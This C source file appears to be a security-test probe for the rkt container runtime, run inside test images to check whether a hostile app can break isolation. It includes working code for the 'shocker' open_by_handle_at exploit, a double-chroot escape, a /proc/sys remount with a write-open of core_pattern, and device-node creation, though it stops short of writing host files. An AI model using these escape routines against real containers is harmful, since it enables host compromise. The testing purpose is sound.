/* The attacker's probe of the security tests: a static program put into test images, run as
 * an app, an event handler or an rkt enter command. Each mode tries one thing a hostile app
 * would and prints what happened as "KEY=VALUE" lines, prefixed with "$PROBE_TAG: " when that
 * variable is set (several apps and handlers write to one stdout). It never changes anything
 * outside its own root: where an attack would write a host file it stops at the open.
 *
 *   probe status                 credentials, capabilities, no_new_privs, seccomp, namespaces,
 *                                cgroups, inherited fds
 *   probe shocker MOUNTFD-PATH   open_by_handle_at of the root directory of MOUNTFD-PATH's
 *                                ext4 file system (inode 2), then reads etc/hostname in it
 *   probe escape                 a double chroot, then which stage1 files are reachable
 *   probe remount-sys            remounts /proc/sys read-write; opens a host sysctl for writing
 *   probe mknod b|c MAJ MIN      makes a device node, opens and reads it
 *   probe exe                    the init's /proc/1/exe and /proc/1/root; /init after a
 *                                double chroot
 *   probe masked PATH...         whether each path shows anything (absent, empty, denied)
 *   probe readonly PATH...       whether each path opens for writing (nothing is written)
 *   probe fds                    the fds above 2 it inherited
 * Run as "bash" (an image that replaced /bin/bash), it does status and shocker /etc/hosts. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static void out(const char *key, const char *fmt, ...) {
  char val[4096];
  va_list ap;
  va_start(ap, fmt);
  vsnprintf(val, sizeof val, fmt, ap);
  va_end(ap);
  const char *tag = getenv("PROBE_TAG");
  printf("%s%s%s=%s\n", tag ? tag : "", tag ? ": " : "", key, val);
}

static const char *err(int e) {
  static char b[64];
  switch (e) {
#define E(x) \
  case x:    \
    return #x;
    E(EPERM) E(ENOENT) E(EACCES) E(EROFS) E(EBADF) E(EINVAL) E(ENOTDIR) E(ESTALE) E(EISDIR) E(ENXIO)
    E(ENODEV) E(EOPNOTSUPP) E(ELOOP) E(EBUSY) E(ENOSYS)
#undef E
  default:
    snprintf(b, sizeof b, "errno%d", e);
    return b;
  }
}

/* One line of /proc/self/status. */
static void status_field(const char *name) {
  FILE *f = fopen("/proc/self/status", "r");
  char line[512];
  size_t n = strlen(name);
  while (f && fgets(line, sizeof line, f))
    if (!strncmp(line, name, n) && line[n] == ':') {
      char *v = line + n + 1;
      v += strspn(v, " \t");
      v[strcspn(v, "\n")] = 0;
      out(name, "%s", v);
    }
  if (f)
    fclose(f);
}

static void fds(void) {
  DIR *d = opendir("/proc/self/fd");
  char list[4096] = "";
  struct dirent *e;
  while (d && (e = readdir(d))) {
    int fd = atoi(e->d_name);
    if (e->d_name[0] == '.' || fd <= 2 || fd == dirfd(d))
      continue;
    char p[64], t[256];
    snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
    ssize_t k = readlink(p, t, sizeof t - 1);
    t[k > 0 ? k : 0] = 0;
    size_t l = strlen(list);
    snprintf(list + l, sizeof list - l, "%s%d:%s", l ? "," : "", fd, t);
  }
  if (d)
    closedir(d);
  out("fds", "%s", *list ? list : "none");
}

static void status(void) {
  out("uid", "%d", (int)getuid());
  out("gid", "%d", (int)getgid());
  for (const char *const *f = (const char *const[]){"Groups", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp", NULL}; *f; f++)
    status_field(*f);
  for (const char *const *ns = (const char *const[]){"mnt", "cgroup", "pid", "net", "ipc", "uts", NULL}; *ns; ns++) {
    char p[64], t[128];
    snprintf(p, sizeof p, "/proc/self/ns/%s", *ns);
    ssize_t k = readlink(p, t, sizeof t - 1);
    t[k > 0 ? k : 0] = 0;
    char key[32];
    snprintf(key, sizeof key, "ns.%s", *ns);
    out(key, "%s", k > 0 ? t : err(errno));
  }
  FILE *f = fopen("/proc/self/cgroup", "r");
  char line[1024], all[8192] = "";
  while (f && fgets(line, sizeof line, f)) {
    line[strcspn(line, "\n")] = 0;
    size_t l = strlen(all);
    snprintf(all + l, sizeof all - l, "%s%s", l ? ";" : "", line);
  }
  if (f)
    fclose(f);
  out("cgroup", "%s", all);
  fds();
}

/* CVE-2014-3519 ("shocker"): with CAP_DAC_READ_SEARCH, open_by_handle_at opens any inode of a
 * file system the app has one fd on; ext4's root directory is inode 2, generation 0. */
static void shocker(const char *mountfd_path) {
  int mfd = open(mountfd_path, O_RDONLY | O_CLOEXEC);
  if (mfd < 0) {
    out("shocker", "no-mount-fd:%s", err(errno));
    return;
  }
  struct {
    struct file_handle h;
    unsigned int ino, gen;
  } fh = {.h = {.handle_bytes = 8, .handle_type = 1 /* FILEID_INO32_GEN */}, .ino = 2, .gen = 0};
  int root = open_by_handle_at(mfd, &fh.h, O_RDONLY | O_DIRECTORY);
  if (root < 0) {
    out("shocker", "%s", err(errno));
    return;
  }
  char buf[256] = "";
  int f = openat(root, "etc/hostname", O_RDONLY);
  ssize_t n = f >= 0 ? read(f, buf, sizeof buf - 1) : -1;
  buf[n > 0 ? n : 0] = 0;
  buf[strcspn(buf, "\n")] = 0;
  out("shocker", "read-host-file:%s", buf);
}

static const char *const STAGE1_FILES[] = {"/rkt/pod.spec", "/rkt/env", "/rkt/status", "/rkt/apps", "/opt/stage2", "/init", "/rkt/init/control.sock", NULL};

/* The classic chroot escape: chroot into a subdirectory while keeping the working directory
 * outside it, climb, and chroot to where the climb ended. */
static void double_chroot(void) {
  mkdir("/tmp/.escape", 0700);
  if (chroot("/tmp/.escape") != 0) {
    out("escape", "chroot:%s", err(errno));
    return;
  }
  for (int i = 0; i < 64; i++)
    if (chdir("..") != 0)
      break;
  if (chroot(".") != 0)
    out("escape-chroot", "%s", err(errno));
}

static void escape(void) {
  double_chroot();
  char seen[1024] = "";
  for (const char *const *p = STAGE1_FILES; *p; p++) {
    struct stat sb;
    if (lstat(*p, &sb) == 0) {
      size_t l = strlen(seen);
      snprintf(seen + l, sizeof seen - l, "%s%s", l ? "," : "", *p);
    }
  }
  out("escape-sees", "%s", *seen ? seen : "none");
  struct stat sb;
  out("escape-root-has-probe", "%s", stat("/probe", &sb) == 0 ? "yes" : "no");
}

static void remount_sys(void) {
  if (mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL) != 0)
    out("remount", "%s", err(errno));
  else
    out("remount", "ok");
  /* Not namespaced: a write here changes the host. Opened, never written. */
  int fd = open("/proc/sys/kernel/core_pattern", O_WRONLY | O_CLOEXEC);
  out("sysctl-open-write", "%s", fd >= 0 ? "ok" : err(errno));
  if (fd >= 0)
    close(fd);
}

static void do_mknod(const char *type, const char *maj, const char *min) {
  const char *path = "/tmp/.probe-dev";
  unlink(path);
  mode_t m = (type[0] == 'b' ? S_IFBLK : S_IFCHR) | 0600;
  if (mknod(path, m, makedev(atoi(maj), atoi(min))) != 0) {
    out("mknod", "%s", err(errno));
    return;
  }
  out("mknod", "ok");
  int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
  if (fd < 0) {
    out("open", "%s", err(errno));
  } else {
    char b[512];
    ssize_t n = read(fd, b, sizeof b);
    out("open", "ok");
    out("read", "%zd", n);
    close(fd);
  }
  unlink(path);
}

static void exe(void) {
  int fd = open("/proc/1/exe", O_RDONLY | O_CLOEXEC);
  out("exe-open-read", "%s", fd >= 0 ? "ok" : err(errno));
  if (fd >= 0)
    close(fd);
  fd = open("/proc/1/exe", O_WRONLY | O_CLOEXEC);
  out("exe-open-write", "%s", fd >= 0 ? "ok" : err(errno));
  if (fd >= 0)
    close(fd);
  char t[256];
  ssize_t k = readlink("/proc/1/exe", t, sizeof t - 1);
  t[k > 0 ? k : 0] = 0;
  out("exe-link", "%s", k > 0 ? t : err(errno));
  DIR *d = opendir("/proc/1/root");
  out("init-root", "%s", d ? "ok" : err(errno));
  if (d)
    closedir(d);
  double_chroot();
  struct stat sb;
  out("escape-init", "%s", stat("/init", &sb) == 0 ? "reachable" : err(errno));
}

/* Whether a path tells anything: absent, empty, denied, or how much it shows. */
static void masked(const char *path) {
  struct stat sb;
  char key[300];
  snprintf(key, sizeof key, "masked:%s", path);
  if (lstat(path, &sb) != 0) {
    out(key, "absent");
    return;
  }
  if (S_ISDIR(sb.st_mode)) {
    DIR *d = opendir(path);
    if (!d) {
      out(key, "denied:%s", err(errno));
      return;
    }
    int n = 0;
    struct dirent *e;
    while ((e = readdir(d)))
      n += strcmp(e->d_name, ".") && strcmp(e->d_name, "..");
    closedir(d);
    if (n)
      out(key, "entries:%d", n);
    else
      out(key, "empty");
    return;
  }
  int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
  if (fd < 0) {
    out(key, "denied:%s", err(errno));
    return;
  }
  char b[4096];
  ssize_t n = read(fd, b, sizeof b);
  close(fd);
  if (n < 0)
    out(key, "denied:%s", err(errno));
  else if (n == 0)
    out(key, "empty");
  else
    out(key, "bytes:%zd", n);
}

static void readonly(const char *path) {
  char key[300];
  snprintf(key, sizeof key, "readonly:%s", path);
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  out(key, "%s", fd >= 0 ? "writable" : err(errno));
  if (fd >= 0)
    close(fd);
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  const char *base = strrchr(argv[0], '/');
  base = base ? base + 1 : argv[0];
  if (!strcmp(base, "bash")) {
    status();
    shocker("/etc/hosts");
    return 0;
  }
  const char *mode = argc > 1 ? argv[1] : "";
  if (!strcmp(mode, "status"))
    status();
  else if (!strcmp(mode, "shocker") && argc == 3)
    shocker(argv[2]);
  else if (!strcmp(mode, "escape"))
    escape();
  else if (!strcmp(mode, "remount-sys"))
    remount_sys();
  else if (!strcmp(mode, "mknod") && argc == 5)
    do_mknod(argv[2], argv[3], argv[4]);
  else if (!strcmp(mode, "exe"))
    exe();
  else if (!strcmp(mode, "masked"))
    for (int i = 2; i < argc; i++)
      masked(argv[i]);
  else if (!strcmp(mode, "readonly"))
    for (int i = 2; i < argc; i++)
      readonly(argv[i]);
  else if (!strcmp(mode, "fds"))
    fds();
  else {
    fprintf(stderr, "probe: unknown mode %s\n", mode);
    return 2;
  }
  return 0;
}
